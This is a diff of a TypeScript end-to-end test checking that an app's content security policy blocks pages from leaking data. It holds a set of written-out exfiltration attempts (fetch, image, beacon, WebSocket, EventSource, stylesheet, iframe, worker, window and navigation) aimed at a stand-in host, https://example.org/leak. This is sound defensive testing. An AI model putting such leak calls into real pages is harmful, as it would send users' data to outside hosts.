@@ -1,76 +1,98 @@
-import { describe, expect, it } from 'vitest';
-import { MERCHANT } from '../fixtures/testimonies.ts';
-import { registerPeople, writeInterview } from './support/interview-flows.ts';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { isAppUrl } from './support/app-url.ts';
 import { Researcher } from './support/researcher.ts';
-import { toAppUrl } from './support/app-url.ts';
+
+/**
+ * What a page that was made to leak would try. That nobody asks for the network while working is seen in
+ * `main-job.test.ts`. Each gives what stopped it: a directive of the policy, or the error thrown.
+ */
+const PROVOCATIONS = {
+  fetch: (address: string) => void fetch(address).catch(() => undefined),
+  image: (address: string) => {
+    new Image().src = address;
+  },
+  beacon: (address: string) => void navigator.sendBeacon(address, 'x'),
+  websocket: (address: string) => void new WebSocket(address.replace('https', 'wss')),
+  events: (address: string) => void new EventSource(address),
+  stylesheet: (address: string) => {
+    const link = document.createElement('link');
+    link.rel = 'stylesheet';
+    link.href = address;
+    document.head.append(link);
+  },
+  frame: (address: string) => {
+    const frame = document.createElement('iframe');
+    frame.src = address;
+    document.body.append(frame);
+  },
+  worker: (address: string) => void new Worker(address),
+} as const;
+
+const STOPPED_BY: Record<keyof typeof PROVOCATIONS, RegExp> = {
+  fetch: /^connect-src/,
+  image: /^img-src/,
+  beacon: /^connect-src/,
+  websocket: /^connect-src/,
+  events: /^connect-src/,
+  stylesheet: /^style-src/,
+  frame: /^frame-src/,
+  worker: /TrustedScriptURL|trusted/i,
+};
+
+const ADDRESS = 'https://example.org/leak';
+
+async function provoke(page: Page, kind: keyof typeof PROVOCATIONS): Promise<string> {
+  const stopped = page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        document.addEventListener(
+          'securitypolicyviolation',
+          (event) => resolve(event.effectiveDirective),
+          { once: true },
+        );
+      }),
+  );
+  const refused = await page.evaluate(
+    `(() => { try { (${PROVOCATIONS[kind].toString()})(${JSON.stringify(ADDRESS)}); } catch (error) { return String(error); } })()`,
+  );
+  return kind === 'worker' ? String(refused) : stopped;
+}
 
 describe('the network', () => {
-  it('is never asked for while somebody works, and refuses what the page is made to try', async () => {
-    const me = await Researcher.start();
-    const requested: string[] = [];
-    me.page.on('request', (request) => requested.push(toAppUrl(request.url())));
-    await me.makeVault();
-    await writeInterview(me, MERCHANT);
-    await registerPeople(me, MERCHANT);
-    await me.lock();
-    await me.unlock();
-    expect(requested.length).toBeGreaterThan(0);
-    expect(requested.filter((url) => !/^(vouchsafe:\/\/app\/|data:|blob:)/.test(url))).toEqual([]);
-    await me.close();
+  let me: Researcher;
+  beforeAll(async () => {
+    me = await Researcher.start();
+    await me.page.getByRole('button', { name: 'English' }).waitFor();
+  });
+  afterAll(async () => {
+    await me?.launched.close();
+    // The page's own handler throws on every violation: those, and nothing else, were seen.
+    expect(me.errors.filter((error) => !error.includes('content security policy'))).toEqual([]);
   });
 
-  it.each(['fetch', 'image', 'beacon', 'websocket', 'link', 'worker'])(
+  it.each(Object.keys(PROVOCATIONS) as (keyof typeof PROVOCATIONS)[])(
     'refuses a provoked %s',
     async (kind) => {
-      const me = await Researcher.start();
-      const outcome = await me.page.evaluate(async (how) => {
-        const address = 'https://example.org/leak';
-        const violated = new Promise<string>((resolve) => {
-          document.addEventListener(
-            'securitypolicyviolation',
-            (event) => resolve(event.effectiveDirective),
-            { once: true },
-          );
-        });
-        switch (how) {
-          case 'fetch':
-            await fetch(address).catch(() => undefined);
-            break;
-          case 'image':
-            new Image().src = address;
-            break;
-          case 'beacon':
-            navigator.sendBeacon(address, 'x');
-            break;
-          case 'websocket':
-            try {
-              new WebSocket('wss://example.org/leak');
-            } catch {
-              // Refused at once is as good as refused by event.
-            }
-            break;
-          case 'link': {
-            const link = document.createElement('link');
-            link.rel = 'stylesheet';
-            link.href = address;
-            document.head.append(link);
-            break;
-          }
-          default:
-            try {
-              new Worker(address);
-            } catch (error) {
-              return String(error);
-            }
-        }
-        return violated;
-      }, kind);
-      expect(outcome).toMatch(
-        /connect-src|img-src|style-src|worker-src|trusted-types|TypeError|SecurityError/,
-      );
-      await me.launched.close();
-      // The page's own handler throws on every violation: exactly these, and nothing else, were seen.
-      expect(me.errors.every((error) => error.includes('content security policy'))).toBe(true);
+      expect(await provoke(me.page, kind)).toMatch(STOPPED_BY[kind]);
     },
   );
+
+  it.each([
+    ['a window', (page: Page) => page.evaluate((address) => void open(address), ADDRESS)],
+    [
+      'a navigation',
+      (page: Page) =>
+        page.evaluate((address) => {
+          location.href = address;
+        }, ADDRESS),
+    ],
+  ])('refuses %s', async (_, go) => {
+    await go(me.page);
+    // The page answers after the attempt, from where it was.
+    await me.page.getByRole('button', { name: 'English' }).waitFor();
+    expect(isAppUrl(me.page.url())).toBe(true);
+    const pages = me.launched.app.windows().map((page) => page.url());
+    expect(pages.filter((url) => url.includes('example.org'))).toEqual([]);
+  });
 });
